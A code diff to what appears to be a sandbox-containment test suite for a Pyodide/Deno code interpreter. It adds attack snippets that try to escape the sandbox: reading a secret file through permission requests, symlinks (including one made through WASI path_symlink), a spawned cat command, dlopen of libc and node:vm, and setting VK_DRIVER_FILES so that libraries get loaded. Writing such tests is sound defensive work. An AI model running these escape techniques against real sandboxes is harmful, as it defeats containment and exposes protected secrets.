@@ -8,6 +8,7 @@ export const INTERPRETER: readonly Attack[] = [
     name: "interpreter internals: from pyodide to JavaScript, to files",
     language: "python",
     control: "pyodide",
+    ways: ["Deno", "run_js", "process", "write", "constructor"],
     code: ({ secretFile, secret, outside }) => `
 def attack():
     import js
@@ -33,6 +34,7 @@ def attack():
     name: "interpreter internals: from pyodide to JavaScript, to programs and libraries",
     language: "python",
     control: "pyodide",
+    ways: ["Command", "dlopen", "kill"],
     code: ({ outside, victimPid }) => `
 def attack():
     import js
@@ -111,16 +113,14 @@ const attack = () => new Promise((resolve, reject) => {
     name: "interpreter internals: what Deno keeps to itself",
     language: "js",
     control: "deno",
+    ways: ["permissions", "ffi", "run", "vm", "symlink"],
     code: ({ secretFile, secret }) => `
 const path = ${text(secretFile)};
 const ways = {
   permissions: async () => { await Deno.permissions.request({ name: "read", path }); return Deno.readTextFileSync(path); },
-  internal: () => Deno[Deno.internal].core.ops.op_read_file_text_sync?.(path) ?? Deno[Deno.internal].core.ops.op_fs_read_file_text_sync(path),
   ffi: () => { Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }); return ${text(secret)}; },
   run: () => new TextDecoder().decode(new Deno.Command("cat", { args: [path] }).outputSync().stdout),
   vm: () => require("node:vm").runInNewContext("read(path)", { path, read: require("node:fs").readFileSync }).toString(),
-  binding: () => process.binding("fs").internalModuleReadJSON(path).toString(),
-  stdin: async () => { const file = await Deno.open("/proc/self/fd/0"); file.close(); return ""; },
   symlink: () => { Deno.symlinkSync(path, OUTPUT_DIR + "/turn_0/files/way"); return Deno.readTextFileSync(OUTPUT_DIR + "/turn_0/files/way"); },
 };
 const attack = async () => {
@@ -130,6 +130,56 @@ const attack = async () => {
   if (won.length === 0) throw last;
   return won.join(" ");
 };`,
+  },
+  {
+    name: "interpreter internals: a link made by WASI",
+    language: "js",
+    control: "deno",
+    code: ({ secretFile, secret }) => `
+import { readFileSync } from "node:fs";
+const attack = async () => {
+  const { WASI } = await import("node:wasi");
+  const wasi = new WASI({ version: "preview1", preopens: { "/": OUTPUT_DIR + "/turn_0/files" } });
+  const memory = new WebAssembly.Memory({ initial: 1 });
+  wasi.initialize({ exports: { memory } });
+  const put = (at, text) => new TextEncoder().encodeInto(text, new Uint8Array(memory.buffer, at)).written;
+  const status = wasi.wasiImport.path_symlink(0, put(0, ${text(secretFile)}), 3, 4096, put(4096, "by-wasi"));
+  if (status !== 0) throw new Error("WASI answered " + status);
+  return readFileSync(OUTPUT_DIR + "/turn_0/files/by-wasi", "utf8") === ${text(secret)};
+};`,
+  },
+  {
+    // Libraries of the system are told by variables which other libraries to load.
+    name: "interpreter internals: variables that have libraries loaded",
+    language: "js",
+    control: "deno",
+    ways: ["set", "process", "file"],
+    code: () => `
+import { writeFileSync } from "node:fs";
+const file = OUTPUT_DIR + "/turn_0/files/.env";
+const ways = {
+  set: (name) => Deno.env.set(name, file),
+  process: (name) => { process.env[name] = file; },
+  file: (name) => { writeFileSync(file, name + "=" + file); process.loadEnvFile(file); },
+};
+const attack = async () => {
+  const won = [];
+  let last = new Error("nothing was set");
+  for (const [way, set] of Object.entries(ways))
+    try { set("VK_DRIVER_FILES_" + way); if (Deno.env.get("VK_DRIVER_FILES_" + way) === file) won.push(way); } catch (error) { last = error; }
+  if (won.length === 0) throw last;
+  return won.join(" ");
+};`,
+  },
+  {
+    name: "interpreter internals: variables that have libraries loaded",
+    language: "python",
+    control: "pyodide",
+    code: () => `
+def attack():
+    import js
+    js.Deno.env.set("VK_DRIVER_FILES", "/tmp/driver.json")
+    return js.Deno.env.get("VK_DRIVER_FILES") == "/tmp/driver.json"`,
   },
   {
     // The control is sent to the canary for packages; that it asks there is what counts.
